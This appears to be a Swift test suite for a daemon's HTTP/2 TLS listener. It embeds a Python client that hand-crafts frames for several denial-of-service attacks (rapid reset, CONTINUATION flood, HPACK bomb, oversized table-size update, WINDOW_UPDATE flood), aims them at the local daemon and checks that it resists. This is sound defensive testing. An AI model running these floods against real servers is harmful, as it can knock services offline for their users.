import Foundation
import KBTDCore
import Testing

/// The h2 red-team cases against the real daemon's TLS listener, with a client that builds
/// frames by hand over Python's `ssl` (no HTTP/2 library: it must be free to break the protocol):
/// rapid reset (CVE-2023-44487; on `/healthz`, which the router answers on a stream channel, and on
/// `/v1/heights`, which `HTTP2FrameFront` answers from the frames), a CONTINUATION flood (CVE-2024-27316 style), an HPACK bomb (16 KB
/// of references to a 4,000-byte dynamic-table entry, 64 MB decoded) and a dynamic-table-size update
/// far above the advertised table. Each must end the connection (GOAWAY, or the stream refused)
/// within a bounded number of frames, leave the daemon's memory within a bound far below what the
/// attack would cost if it were obeyed, and leave the daemon answering an honest request on a new
/// connection. The limits are swift-nio-http2's, which kbtd keeps (docs/hostile-input.md).
@Suite("HTTP/2 red team against the live TLS listener", .ownThreads)
struct HTTP2RedTeamTests {
    enum Attack: String, CaseIterable, CustomTestStringConvertible {
        case rapidReset = "rapid-reset", rapidResetFastAnswers = "rapid-reset-heights"
        case continuationFlood = "continuation-flood"
        case hpackBomb = "hpack-bomb", tableSize = "table-size"
        case windowUpdateFlood = "window-update-flood"
        var testDescription: String { rawValue }
    }

    @Test(arguments: Attack.allCases)
    func theAttackEndsTheConnectionWithinABoundAndHonestClientsStillGetAnswers(_ attack: Attack) throws {
        let (daemon, pair) = try TLSTests.tlsDaemon()
        defer { #expect(daemon.stop() == 0) }
        let script = daemon.directory.appendingPathComponent("redteam.py").path
        try Self.client.write(toFile: script, atomically: true, encoding: .utf8)
        let before = daemon.memory().rss
        #expect(before > 0, "no VmRSS for the daemon")
        // The script bounds its own waits (30 s); this bound is for a hung interpreter.
        let run = try spawnAndWait("/usr/bin/env", ["python3", script, String(daemon.port), pair.ca, attack.rawValue], timeout: 90)
        #expect(run.status == 0, "\(run.stderr)")
        let result = try JSONParser.parse(Array(run.stdout.utf8))
        #expect(result["timed_out"] == .bool(false), "the daemon neither closed the connection nor refused the stream: \(run.stdout)")
        let goaway = result["goaway"]?["error"]
        switch attack {
        case .rapidReset, .rapidResetFastAnswers:
            // swift-nio-http2 allows 200 RST_STREAM in 30 s; the PING after every 50 pairs makes the
            // count exact to 50. The GOAWAY can be lost to the TCP reset that follows the close.
            #expect(result["closed"] == .bool(true), "\(run.stdout)")
            #expect(goaway == nil || goaway == .number(11), "expected ENHANCE_YOUR_CALM: \(run.stdout)")
            let resets = result["resets_sent"].flatMap { if case .number(let n) = $0 { n } else { nil } } ?? .infinity
            #expect(resets <= 250, "the daemon read \(resets) stream resets before ending the connection")
        case .continuationFlood:
            // At most 5 CONTINUATION frames in a row; the client's count includes what the socket buffers took.
            #expect(result["closed"] == .bool(true) && goaway == .number(11), "\(run.stdout)")
            let frames = result["frames_sent"].flatMap { if case .number(let n) = $0 { n } else { nil } } ?? .infinity
            #expect(frames < 100_000, "the flood of 100 MB went through: \(run.stdout)")
        case .windowUpdateFlood:
            // 200 in 30 s (plus two per DATA frame sent, and none is): the PING after every 50 makes the count exact to 50.
            #expect(result["closed"] == .bool(true), "\(run.stdout)")
            #expect(goaway == nil || goaway == .number(11), "expected ENHANCE_YOUR_CALM: \(run.stdout)")
            let updates = result["updates_sent"].flatMap { if case .number(let n) = $0 { n } else { nil } } ?? .infinity
            #expect(updates <= 250, "the daemon read \(updates) WINDOW_UPDATE frames before ending the connection")
        case .hpackBomb, .tableSize:
            // COMPRESSION_ERROR: the header list passes the 16 KiB limit, or the table update the 4,096 bytes advertised.
            #expect(result["closed"] == .bool(true) && goaway == .number(9), "\(run.stdout)")
        }
        let after = daemon.memory().rss
        #expect(after - before < 32, "VmRSS grew from \(before) to \(after) MiB")

        let honest = try curl(["--http2", "--cacert", pair.ca, "-o", "/dev/null", "-w", "%{http_code} %{http_version}",
                               "https://127.0.0.1:\(daemon.port)/healthz"])
        #expect(honest.stdout == "200 2", "an honest request after the attack: \(honest.stdout) \(honest.stderr)")
    }

    /// Usage: redteam.py PORT CA ATTACK; prints what the server did as JSON.
    static let client = HTTP2PythonClient.prelude + #"""
port, ca, attack = int(sys.argv[1]), sys.argv[2], sys.argv[3]
DEADLINE = time.monotonic() + 30  # every wait below is bounded by this


def request_block(path="/healthz"):
    # :method GET (static 2), :scheme https (7), :path (4) and :authority (1) as literals without indexing.
    return b"\x82\x87" + integer(4, 4) + string(path) + integer(1, 4) + string("127.0.0.1")


HEADERS, RST, SETTINGS, PING, GOAWAY, CONTINUATION = 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 0x1, 0x4

sock = connect(port, ca)

state = {"ping_acks": 0, "resets_sent": 0, "goaway_after_resets": None, "goaway": None, "closed": False, "rst": [], "headers": [], "frames_sent": 0, "send_error": None}
buffer = bytearray()


def read(wait):
    # Reads what the server sent within `wait` seconds (0: only what is there already).
    end = min(time.monotonic() + wait, DEADLINE)
    while not state["closed"]:
        left = max(0.0, end - time.monotonic())
        if not sock.pending() and not select.select([sock], [], [], left)[0]:
            return
        try:
            data = sock.recv(65536)
        except (ConnectionError, ssl.SSLError, OSError):
            data = b""
        if not data:
            state["closed"] = True
            return
        buffer.extend(data)
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
            length = int.from_bytes(buffer[:3], "big")
            kind, flags, stream = buffer[3], buffer[4], int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
            payload = bytes(buffer[9 : 9 + length])
            del buffer[: 9 + length]
            if kind == SETTINGS and not flags & 1:
                send(frame(SETTINGS, 1, 0))
            elif kind == PING and flags & 1:
                state["ping_acks"] += 1
            elif kind == GOAWAY:
                if state["goaway_after_resets"] is None:
                    state["goaway_after_resets"] = state["resets_sent"]
                state["goaway"] = {"last_stream": int.from_bytes(payload[:4], "big"),
                                   "error": int.from_bytes(payload[4:8], "big")}
            elif kind == RST:
                state["rst"].append({"stream": stream, "error": int.from_bytes(payload[:4], "big")})
            elif kind == HEADERS:
                state["headers"].append(stream)
        if not sock.pending():
            return


def send(data, frames=1):
    if state["send_error"]:
        return False
    try:
        sock.sendall(data)
        state["frames_sent"] += frames
        return True
    except (ConnectionError, ssl.SSLError, OSError) as error:
        state["send_error"] = type(error).__name__
        return False


def attacking():
    read(0)
    return state["goaway"] is None and not state["closed"] and not state["send_error"] and time.monotonic() < DEADLINE


read(2)  # the server's SETTINGS
if attack in ("rapid-reset", "rapid-reset-heights"):
    # CVE-2023-44487: open a stream and cancel it at once, over and over, 50 pairs per write. A PING
    # after each write and its ACK awaited (the server answers frames in order) keep the count of
    # resets the server has read exact to the write: buffering cannot hide a late GOAWAY.
    path = "/v1/heights?model=iPhone17,1" if attack == "rapid-reset-heights" else "/healthz"
    stream = 1
    while attacking() and stream < 2 * 20000:
        chunk = b""
        for _ in range(50):
            chunk += frame(HEADERS, END_HEADERS | END_STREAM, stream, request_block(path)) + frame(RST, 0, stream, (8).to_bytes(4, "big"))
            stream += 2
        acks = state["ping_acks"]
        if send(chunk + frame(PING, 0, 0, stream.to_bytes(8, "big")), 101):
            state["resets_sent"] += 50
        while state["ping_acks"] == acks and state["goaway"] is None and not state["closed"] and time.monotonic() < DEADLINE:
            read(DEADLINE - time.monotonic())
elif attack == "window-update-flood":
    # WINDOW_UPDATE +1 on the connection, over and over, 50 per write, each write followed by a PING
    # whose ACK is awaited (the server answers frames in order), so the count the server read is exact.
    state["updates_sent"] = 0
    while attacking() and state["updates_sent"] < 100000:
        acks = state["ping_acks"]
        if send(frame(8, 0, 0, (1).to_bytes(4, "big")) * 50 + frame(PING, 0, 0, state["updates_sent"].to_bytes(8, "big")), 51):
            state["updates_sent"] += 50
        while state["ping_acks"] == acks and state["goaway"] is None and not state["closed"] and time.monotonic() < DEADLINE:
            read(DEADLINE - time.monotonic())
elif attack == "continuation-flood":
    # CVE-2024-27316 style: a header block that never ends, 1 KiB of CONTINUATION at a time.
    send(frame(HEADERS, END_STREAM, 1, request_block()))
    filler = integer(0, 4) + string("x-flood") + string("a" * 1000)
    while attacking() and state["frames_sent"] < 100000:
        send(b"".join(frame(CONTINUATION, 0, 1, filler) for _ in range(20)), 20)
elif attack == "hpack-bomb":
    # One 4,000-byte header stored in the dynamic table (literal with incremental indexing), then a
    # block of 16,000 one-byte references to it (index 62): 16 KB on the wire, 64 MB decoded.
    send(frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block() + b"\x40" + string("x-bomb") + string("b" * 4000)))
    bomb = request_block() + b"\xbe" * 16000
    pieces = [bomb[i : i + 8000] for i in range(0, len(bomb), 8000)]
    send(frame(HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), 3, pieces[0]))
    for index, piece in enumerate(pieces[1:], start=1):
        send(frame(CONTINUATION, END_HEADERS if index == len(pieces) - 1 else 0, 3, piece))
elif attack == "table-size":
    # A dynamic table size update far above the 4,096 bytes the server allows.
    send(frame(HEADERS, END_HEADERS | END_STREAM, 1, integer(1 << 30, 5, 0x20) + request_block()))
else:
    raise SystemExit("unknown attack " + attack)

# Bounded wait for the server's verdict: the connection closed, or (HPACK bomb) the stream refused.
while not state["closed"] and time.monotonic() < DEADLINE:
    if attack == "hpack-bomb" and any(r["stream"] == 3 for r in state["rst"]):
        break
    read(DEADLINE - time.monotonic())
state["timed_out"] = time.monotonic() >= DEADLINE
print(json.dumps(state))
"""#
}
